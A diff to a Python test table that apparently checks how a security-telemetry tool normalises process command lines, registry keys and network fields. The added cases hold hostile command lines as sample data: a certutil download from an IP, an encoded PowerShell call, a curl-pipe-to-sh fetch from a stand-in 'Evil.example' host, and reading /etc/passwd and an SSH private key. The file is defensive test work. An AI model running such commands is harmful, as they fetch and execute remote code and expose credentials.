@@ -20,6 +20,14 @@ FOLDS = [
     ("cmd_shape", r'"C:\Windows\System32\cmd.exe" /c ping 10.0.0.1 -n 4', '"/cmd.exe" /c ping #.#.#.# -n #'),
     ("cmd_shape", "certutil -urlcache -f http://198.51.100.7/a/b.txt", "certutil -urlcache -f http://b.txt"),
     ("cmd_shape", "powershell -enc " + "QWxs" * 30, "powershell -enc #"),
+    ("arguments", "certutil.exe -urlcache -split -f http://198.51.100.7/a/b.txt", "-urlcache -split -f http://#.#.#.#"),
+    ("arguments", r'"C:\Program Files\a b.exe" /p:7 "C:\Users\ann\Docs\x12.doc" /p:8', r"/p:# \users\#\docs\ x#.doc"),
+    ("arguments", "powershell -enc " + "QWxsb3cgdGhpcyBvbmUgcGxlYXNlIG5vdyBhbmQgdGhlbg/" * 3 + "==", "-enc ##"),
+    ("arguments", "sh -c curl https://Evil.example:8443/x|sh", "-c curl https://evil.example sh"),
+    ("arguments", "cat /etc/passwd /home/ann/.ssh/id_rsa", "/etc/ passwd /home/#/.ssh/ id_rsa"),
+    ("arguments", "whoami", ""),
+    ("arguments", "x " + " ".join("abcdefghij"), "a b c d e f g h i j"),
+    ("started_by", None, "?"),
     ("reg_key_shape", r"HKU\S-1-5-21-1-2-3-1001\Software\Run\A", r"hku\#\software\run\a"),
     ("reg_key_shape", r"\REGISTRY\MACHINE\System\Services\x", r"hklm\system\services\x"),
     ("query_parent", "a.b.www.Example.com.", "example.com"),
@@ -34,7 +42,8 @@ FOLDS = [
     ("tls_client", "AABB", "aabb"),
 ]
 SOURCES = {
-    "image_name": "image", "image_shape": "image", "cmd_shape": "cmdline", "reg_key_shape": "reg_key", "query_parent": "query",
+    "image_name": "image", "image_shape": "image", "cmd_shape": "cmdline",
+    "arguments": "cmdline", "started_by": "parent_image", "reg_key_shape": "reg_key", "query_parent": "query",
     "sni_parent": "sni", "site": "url_host", "user_agent_shape": "user_agent", "service_shape": "service", "tls_client": "ja3",
 }  # fmt: skip
 
